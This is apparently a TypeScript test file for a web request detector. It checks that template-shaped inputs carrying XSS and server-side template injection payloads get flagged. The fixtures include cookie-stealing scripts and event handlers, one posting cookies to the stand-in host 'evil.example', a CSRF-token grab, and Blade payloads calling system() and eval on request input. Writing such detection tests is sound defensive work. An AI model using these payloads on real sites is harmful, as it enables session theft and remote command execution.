import t from 'tap'
import { inertPageMarkup } from '../../src/insight/page-markup.ts'
import { defaultDetector } from '../helpers/detector.ts'

const detector = defaultDetector()
const base = { path: '/api/pages', query: '', headers: { host: 'app.test', 'user-agent': 'Mozilla/5.0 Firefox/127.0', 'content-type': 'application/json' }, body: null }
const json = (v: string) => detector.detect({ ...base, body: Buffer.from(JSON.stringify({ template: v })) })
const q = (v: string) => detector.detect({ ...base, headers: { host: 'app.test', 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, query: `q=${encodeURIComponent(v)}` })

t.test("a template page's empty SVG element a script draws into is no markup to probe with", async (t) => {
  for (const v of [
    '    {{ if ne (len .commits) 0 }}\n    <div class="divide-y">\n        {{ range $commit := .commits }}\n        <svg class="size-5 rounded-full" data-jdenticon-value="{{ if $user }}{{ $user.Username }}{{ end }}" width="20" height="20"></svg>\n        {{ end }}\n    </div>',
    '<div class="card">\n  <% if @user %>\n  <svg class="avatar" data-jdenticon-value="<%= @user.name %>" width="20" height="20"></svg>\n  <% end %>\n</div>',
  ]) t.same(json(v), [], v.slice(0, 100))
  t.equal(inertPageMarkup('<p>\n<svg width="20" height="20"></svg>\n</p>'), '<p>\n \n</p>', 'blanked')
  t.equal(inertPageMarkup('{% set x = 1 %}\n<svg width="20"></svg>'), '{% set x = 1 %}\n<svg width="20"></svg>', 'not where the value binds a name')
  t.equal(inertPageMarkup('<svg width="20" onload="x()"></svg>'), '<svg width="20" onload="x()"></svg>', 'a handler: kept')
})

// (the round's review, each run in Chromium or, for Blade, in PHP 8.2 as Blade compiles it: every one executed)
t.test("a template page's scripts and handlers are judged as any markup's: the review's payloads", async (t) => {
  for (const v of ["{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>fetch('/collect',{method:'POST',body:document['coo'+'kie']})</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>Function(decodeURIComponent(location.hash.slice(1)))()</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>setTimeout(decodeURIComponent(location.hash.slice(1)))</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>document.head.append(Object.assign(document.createElement('script'),{text:'top.p4=1'}))</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>top.pwned=1</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<img src=x onerror=\"fetch('/collect',{method:'POST',body:document['coo'+'kie']})\">\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<details open ontoggle=\"top.p6=1\">x</details>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>x=1//</scriptx\nfetch('/collect',{method:'POST',body:document.cookie});alert(document.cookie)//><script>\n</script>\n{% endblock %}\n",
    "<div class=\"card\">\n  <h2><%= @item.title %></h2>\n  <p><%= @item.body %></p>\n<svg class='<%= ' onload=alert(document.cookie) x=' %>'></svg>\n</div>\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>location='/'+'/evil.example/?'+document['coo'+'kie']</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>$.globalEval(decodeURIComponent(location.hash.slice(1)))</script>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>$('#x').html(decodeURIComponent(location.hash.slice(1)))</script>\n{% endblock %}\n",
    "<div class=\"card\">\n  <h2><%= @item.title %></h2>\n  <p><%= @item.body %></p>\n<svg class=\"<%= \" onload=alert(document.cookie) x=\" %>\"></svg>\n</div>\n",
    "<div class=\"card\">\n  <h2><%= @item.title %></h2>\n  <p><%= @item.body %></p>\n<svg width=\"20\" height=\"20\" data-x='<%= ' onload=alert(document.cookie) x=' %>'></svg>\n</div>\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>x=1//</scriptx\nalert(document.cookie)//><script>\n</script>\n{% endblock %}\n",
    "<script>\ndefineIt()\nfunction defineIt(){}\nnavigator.sendBeacon('/collect',self['docu'+'ment']['coo'+'kie'])\n</script>",
    "<script>\ndefineIt()\nfunction defineIt(){}\ntop.pwned=1\n</script>",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<a id=a href=\"#\" onfocus=\"Function(decodeURIComponent(location.hash.slice(3)))()\" autofocus tabindex=1>x</a>\n{% endblock %}\n",
    "<form><input name=\"authenticity_token\" value=\"CSRF-TOKEN-123\"></form>\n<div class=\"card\">\n  <h2><%= @item.title %></h2>\n  <p><%= @item.body %></p>\n<script>\n  fetch('/collect', { method: 'POST', body: new URLSearchParams(new FormData(document.querySelector('form'))) })\n</script>\n</div>\n",
    "toggle()\n</scriptx\nalert(document.cookie)//>\n<p>{{ a }}</p>\n<p>{{ b }}</p>\n<script>\n</script>",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<script>x=1</script\t>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<a href=\"#\" onclick=\"top['al'+'ert'](document['coo'+'kie'])\">x</a>\n{% endblock %}\n",
    "{% extends \"shop/base.html\" %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<a href=\"#\" onclick=\"Function(top.name)()\">x</a>\n{% endblock %}\n"]) {
    t.ok(json(v).includes('xss'), `json: ${v.slice(0, 120)}`)
    t.ok(q(v).includes('xss'), `query: ${v.slice(0, 120)}`)
  }
})

t.test("Blade's PHP calls after a lone `>` or `:` are builtins still (only `->` and `::` make a method)", async (t) => {
  for (const v of ["<div class=\"card\">\n  <h2>{{ $item->title }}</h2>\n  <p>{{ 1>system(request('c')) }}</p>\n</div>\n",
    "<div class=\"card\">\n  <h2>{{ $item->title }}</h2>\n  <p>{{ 0 ?: system(request('c')) }}</p>\n</div>\n",
    "<div class=\"card\">\n  <h2>{{ $item->title }}</h2>\n  <p>{{ ['a'=>system(request('c'))] }}</p>\n</div>\n",
    "<div class=\"card\">\n  <h2>{{ $item->title }}</h2>\n  <p>{{ 1>eval(request('c')) }}</p>\n</div>\n"]) t.ok(json(v).includes('ssti'), v.slice(40, 120))
})

// (the fifty-second round's second review, each run in Chromium: a component's script close cut before live markup or after a JS string's
// breakout — the cut withdrawn —, a dialog named as a value in a component's script)
t.test("a component's script and its close: what the code names and what follows the close are read", async (t) => {
  for (const v of [ "\";\n// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\ndefineExpose({\n    sort: [1].find(alert),\n    rows: Object.assign(this, { pwned: 1 }),\n});\nfunction defineExpose(o) {}\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template>\n    <div data-oruga=\"table\" :class=\"rootClasses\">\n        <div ref=\"slotsWrapper\" style=\"display: none\">\n            <slot name=\"before\" />", "\";\n// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\nconst sort = [1].find(alert)\nObject.assign(this, { pwned: 1 })\ndefineExpose({\n    sort,\n});\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template>\n    <div data-oruga=\"table\" :class=\"rootClasses\">\n        <div ref=\"slotsWrapper\" style=\"display: none\">\n            <slot name=\"before\" />", "\";\n// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\nconst f = alert\nf(1)\nObject.assign(this, { pwned: 1 })\ndefineExpose({\n    f,\n});\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template>\n    <div data-oruga=\"table\" :class=\"rootClasses\">\n        <div ref=\"slotsWrapper\" style=\"display: none\">\n            <slot name=\"before\" />", "// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\ndefineExpose({\n    columns: shallowReadonly(tableColumns),\n    rows: shallowReadonly(tableRows),\n    filters,\n    sort: sortByField,\n});\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template>\n    <div class=\"a\"></div>\n</template>\n// <img src=x onerror=alert(1)>\n", "// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\ndefineExpose({\n    columns: shallowReadonly(tableColumns),\n    rows: shallowReadonly(tableRows),\n    filters,\n    sort: sortByField,\n});\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template shadowrootmode=\"open\">\n    <div class=\"a\"></div>\n// <img src=x onerror=alert(1)>\n</template>\n", "<script setup lang=\"ts\" generic=\"T\">\nconst a = 1;\n[1].find(alert)\n</script>", "<script setup generic=\"T extends string\">\nimport { ref } from 'vue'\nconst f = alert\nf(1)\n</script>", "<script setup lang=\"ts\" generic=\"T\">\ndefineProps({ a: [1].find(alert) })\nfunction defineProps() {}\n</script>", "<script setup>\nconst a = 1;\n[1].find(alert)\n</script>", "// #region --- Expose Public Functionalities ---\n\n/** expose functionalities for programmatic usage */\ndefineExpose({\n    columns: shallowReadonly(tableColumns),\n    rows: shallowReadonly(tableRows),\n    filters,\n    sort: [1].find(alert),\n});\n\n// #endregion --- Expose Public Functionalities ---\n</script>\n\n<template>\n    <div data-oruga=\"table\" :class=\"rootClasses\">\n        <div ref=\"slotsWrapper\" style=\"display: none\">\n            <slot name=\"before\" />" ]) {
    t.ok(json(v).includes('xss'), `json: ${v.slice(0, 120)}`)
    t.ok(q(v).includes('xss'), `query: ${v.slice(0, 120)}`)
  }
})
